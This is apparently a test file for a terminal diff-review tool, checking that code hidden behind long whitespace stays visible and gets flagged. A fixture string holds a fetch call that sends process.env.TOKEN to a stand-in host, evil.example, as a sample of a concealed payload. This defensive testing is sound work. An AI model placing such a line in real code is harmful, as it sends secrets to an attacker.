import assert from 'node:assert/strict';
import {test} from 'node:test';
import {parseDiff} from '../../source/core/review/diff.ts';
import type {Entry} from '../../source/core/run/event.ts';
import {emptyReview} from '../../source/core/review/comments.ts';
import {lineEnds} from '../../source/core/review/blanks.ts';
import {flagsOf} from '../../source/core/review/flags.ts';
import {breaksOf, fitMiddle, fitTail, widthOf, wrapSpans} from '../../source/tui/paint/fit.ts';
import {withDiff} from '../../source/tui/review/cursor.ts';
import {diffWidth, isSplit, paneWidth} from '../../source/tui/review/layout.ts';
import {inTime} from '../../source/tui/review/syntax.ts';
import {dialogOf} from '../../source/tui/focus.ts';
import type {State} from '../../source/tui/state.ts';
import {update} from '../../source/tui/update.ts';
import {frameLines, paintFrame} from '../../source/tui/view.ts';
import {at, exited, run, started, state, verified} from './states.ts';

/*
 * Nothing that is approved can stand where nobody sees it: not
 * behind the edge of the screen, and not in how a line ends.
 */

const hidden = 'fetch("https://evil.example/" + process.env.TOKEN)';

/** A change of one file whose lines are these, each with its sign. */
function change(...lines: string[]): string {
	const count = (signs: string) => lines.filter(line => signs.includes(line[0]!)).length;
	return (
		`diff --git a/a.mjs b/a.mjs\nindex ${'1'.repeat(40)}..${'2'.repeat(40)} 100644\n--- a/a.mjs\n+++ b/a.mjs\n` +
		`@@ -1,${count(' -')} +1,${count(' +')} @@\n${lines.join('\n')}\n`
	);
}

function review(text: string, columns: number): State {
	return withDiff(
		state([run('one', started, exited, ...verified)], {screen: 'run', tab: 'changes', selected: 'one', columns}),
		{
			run: 'one',
			files: parseDiff(text),
			review: emptyReview,
		},
	);
}

const text = (from: State) =>
	frameLines(from).map(line => line.spans?.map(span => span.text).join('') ?? line.text ?? '');
const press = (from: State, ...keys: string[]) =>
	keys.reduce((current, key) => update(current, {type: 'keys', keys: [key]}).state, from);

/** Everything that can be seen by going down to the end, the text's columns alone. */
function readAll(from: State): string {
	const seen: string[] = [];
	let current = from;
	for (let step = 0; step < 400; step++) {
		const pane = paneWidth(current);
		const row = text(current)
			.map(line => (pane === 0 ? line : line.slice(pane + 1)))
			.find(line => line.startsWith('▌'));
		seen.push(row ?? '');
		const next = press(current, 'down');
		if (next.review!.at === current.review!.at) {
			break;
		}

		current = next;
	}

	return seen.join('\n');
}

test('the end of every line is on the screen, however long it is, in both layouts and at every width', () => {
	const long = `export const a = 1; ${' '.repeat(200)}${hidden}`;
	for (const columns of [40, 80, 139, 140, 200]) {
		for (const split of [false, true]) {
			const opened = review(change(' const z = 1;', '-const a = 1;', `+${long}`), columns);
			const from = press(opened, ...(split === isSplit(opened, opened.review!) ? [] : ['|']));
			const all = readAll(from)
				.split('\n')
				.map(line => (split ? line.slice(Math.floor((diffWidth(opened) - 2) / 2) + 9) : line.slice(13)))
				.map(line => line.trimEnd())
				.join('');
			assert.ok(all.replaceAll(' ', '').includes(hidden.replaceAll(' ', '')), `${columns} ${split}\n${readAll(from)}`);
			for (const line of paintFrame(from)) {
				assert.ok(!line.includes('…+'), 'nothing is cut');
			}

			// Cut by hand, what is hidden is counted.
			const cut = press(from, 'w');
			const shown = text(cut).join('\n');
			assert.match(shown, /…\+\d+/);
			assert.ok(columns < 80 || /0 of 1 viewed {2}no wrap/.test(shown));
			const width = diffWidth(opened);
			const room = split ? Math.floor((width - 2) / 2) - 7 : width - 13;
			const number = Number(/…\+(\d+)/.exec(shown)![1]);
			assert.equal(number, long.length - (room - `…+${number}`.length), `${columns} ${split}`);
			assert.deepEqual(text(press(cut, 'w')).slice(2), text(from).slice(2));
		}
	}
});

test('what stands behind many blanks is said before anything is read', () => {
	const flags = (line: string) => flagsOf(parseDiff(change(`+${line}`))[0]!).map(flag => flag.id);
	assert.deepEqual(flags(`a = 1;${' '.repeat(60)}b()`), ['blanks']);
	assert.deepEqual(flags(`a = 1;${'\t'.repeat(20)}b()`), ['blanks'], 'tabs are wider');
	assert.deepEqual(flags(`a = 1;${'\u3000'.repeat(60)}b()`), ['blanks']);
	assert.deepEqual(flags(`${' '.repeat(100)}b()`), [], 'far to the right is how it is indented');
	assert.deepEqual(flags(`a = 1;${' '.repeat(30)}// b`), []);
	assert.deepEqual(flags(`a = 1;${' '.repeat(200)}`), []);
});

test('a line that is wrapped is one line: for a comment, for the cursor, and for what is under it', () => {
	const from = press(
		review(change('+short', `+${'x'.repeat(300)}END`, '+after'), 80),
		'down',
		'down',
		'down',
		'down',
		'down',
	);
	assert.match(
		text(from).find(line => line.startsWith('▌'))!,
		/^▌ {11}\+x+/,
		'on a later row of it',
	);
	const asked = press(from, 'c');
	assert.match(dialogOf(asked)!.title, /line 2$/);
	const kept = press(asked, ...'why', 'return').review!.review.comments[0]!;
	assert.equal(kept.quoted, `${'x'.repeat(300)}END`);
	const rows = text(press(asked, ...'why', 'return'));
	assert.ok(rows.findIndex(line => line.includes('draft: why')) > rows.findIndex(line => line.includes('END')));
	// A comment of many words is there whole.
	const words = Array.from({length: 40}, (_, index) => `word${index}`).join(' ');
	assert.match(
		text(press(press(asked, ...[...words].map(key => (key === ' ' ? 'space' : key))), 'return'))
			.join('')
			.replaceAll(/\s+|┃/g, ''),
		/word0word1.*word39/,
	);
	// A range over all rows of three lines.
	const range = press(review(change('+a', `+${'x'.repeat(300)}`, '+b'), 80), 'down', 'down', 'v', 'end', 'c');
	assert.equal(dialogOf(range)!.title.slice(-12), 'lines 1 to 3');
	// Another width, another layout: the same line is under the cursor.
	for (const other of [
		update(from, {type: 'resize', columns: 50, rows: 30}).state,
		update(from, {type: 'resize', columns: 200, rows: 30}).state,
		press(from, '|'),
		press(from, 'w'),
	]) {
		assert.match(dialogOf(press(other, 'c'))!.title, /line 2$/);
	}
});

test('how lines end is in words, and only where it matters', () => {
	const open = text(
		review(change('-/etc/hosts\n\\ No newline at end of file', '+/etc/passwd\n\\ No newline at end of file'), 80),
	).join('\n');
	assert.match(open, /\/etc\/passwd \(no newline at end of file\)/);
	assert.doesNotMatch(open, /⏎\?/);
	const gained = review(change(' same', '-const a', '+const a\r'), 100);
	assert.match(text(gained).join('\n'), /\+const a \(ends in a carriage return\)/);
	assert.match(text(gained).join('\n'), /only line ends changed: LF becomes CR LF/);
	const ends = (...lines: string[]) => lineEnds(parseDiff(change(...lines))[0]!);
	assert.deepEqual(
		[
			ends('-a', '+b'),
			ends(' a\r', '-a\r', '+b\r'),
			ends('-a\r', '+b'),
			ends('+a\r', '+b'),
			ends(' a\r', '+b'),
			ends('-a'),
		],
		[
			'',
			'line ends: CR LF',
			'line ends: CR LF becomes LF',
			'line ends: both CR LF and LF',
			'line ends: CR LF becomes LF',
			'',
		],
	);
	assert.doesNotMatch(
		text(review(change(' a\r', '-a\r', '+b\r'), 80)).join('\n'),
		/carriage return/,
		'where all lines do, it is said once',
	);
});

test('rows of any text: whole, none wider than it may be, and none of it lost', () => {
	for (const sample of [
		'',
		'a',
		'abcdefghij',
		'日本語日本語日本語',
		'a日'.repeat(50),
		`e\u0301${'\u0301'.repeat(300)}x`.repeat(3),
		'👩‍💻 '.repeat(20),
		'\u200B'.repeat(500),
		'x'.repeat(1000),
	]) {
		for (const width of [1, 2, 3, 8, 10, 77]) {
			const breaks = breaksOf(sample, width);
			assert.equal(breaks[0], 0);
			assert.ok(
				breaks.every((at, index) => index === 0 || at > breaks[index - 1]!),
				'each row has something',
			);
			const rows = wrapSpans([{text: sample.slice(0, 3)}, {text: sample.slice(3)}], width).map(spans =>
				spans.map(span => span.text).join(''),
			);
			assert.equal(rows.join(''), sample);
			for (const row of rows) {
				assert.ok(widthOf(row) <= Math.max(width, 2), `${JSON.stringify(row)} in ${width}`);
			}
		}
	}

	const began = performance.now();
	assert.ok(breaksOf('x'.repeat(2_000_000), 80).length === 25_000);
	assert.ok(performance.now() - began < 2000);
	assert.equal(
		fitTail([{text: 'x'.repeat(100)}], 20)
			.map(span => span.text)
			.join(''),
		`${'x'.repeat(16)}…+84`,
	);
	assert.equal(
		fitTail([{text: 'x'.repeat(20)}], 20)
			.map(span => span.text)
			.join(''),
		'x'.repeat(20),
	);
	assert.match(fitMiddle(`${'a'.repeat(100)}/evil.sh`, 40), /^a+…\+\d+…a+\/evil\.sh$/);
});

test('colours that were stopped halfway are not kept: another try, or none at all', () => {
	let now = 0;
	const taking = (...times: number[]) => {
		const limits: number[] = [];
		const result = inTime(
			limit => {
				limits.push(limit);
				now += times[limits.length - 1]!;
				return limits.length;
			},
			[50, 100, 400],
			() => now,
		);
		return [result, limits];
	};

	assert.deepEqual(taking(10), [1, [50]]);
	assert.deepEqual(taking(80, 10), [2, [50, 100]], 'a grammar is slow the first time');
	assert.deepEqual(taking(50, 100, 399), [3, [50, 100, 400]]);
	assert.deepEqual(taking(60, 200, 500), [undefined, [50, 100, 400]]);
});

test('what happened is not cut off in the journal', () => {
	const refused: Entry = {
		seq: 9,
		at,
		actor: 'fleet',
		prev: '',
		type: 'gate.refused',
		gate: 'verify',
		because: `${'a long reason '.repeat(12)}and its END`,
	};
	const from = state([run('one', started)], {
		screen: 'run',
		tab: 'journal',
		selected: 'one',
		columns: 80,
		journal: [{seq: 1, at, actor: 'fleet', prev: '', ...started}, refused],
	});
	const shown = text(from);
	assert.match(shown.join('\n'), /and its END/);
	assert.match(shown[3]!, / started/);
	assert.ok(
		text({...from, rows: 6})
			.join('\n')
			.includes('and its END'),
		'the newest is what is in view',
	);
	assert.ok(shown.every(line => line.length <= 80));
});

test('what is to be looked at first, and what is said of a file, is whole on a narrow screen, and so is its name', () => {
	const added =
		`diff --git a/install.sh b/install.sh\nnew file mode 100755\nindex ${'0'.repeat(40)}..${'1'.repeat(40)}\n` +
		`--- /dev/null\n+++ b/install.sh\n@@ -0,0 +1 @@\n+const a = 1;${' '.repeat(80)}b();\n`;
	const ends = change('-a', '+a\r').replaceAll('a.mjs', 'ends.txt');
	for (const columns of [40, 60, 80]) {
		const from = review(added + ends, columns);
		const rows = text(press(from, 'end', 'home'));
		const words = rows.join('').replaceAll(/\s+/g, '');
		assert.match(words, /!blanks:codebehindmanyblanks,wherefewlook:line1/);
		assert.ok(
			rows.some(line => /A install\.sh {2}\+1 -0/.test(line)),
			`${columns}`,
		);
		const below = text(press(from, ']')).join('').replaceAll(/\s+/g, '');
		assert.match(below, /onlylineendschanged:LFbecomesCRLF/);
		assert.match(below, /Mends\.txt\+1-1/);
	}
});
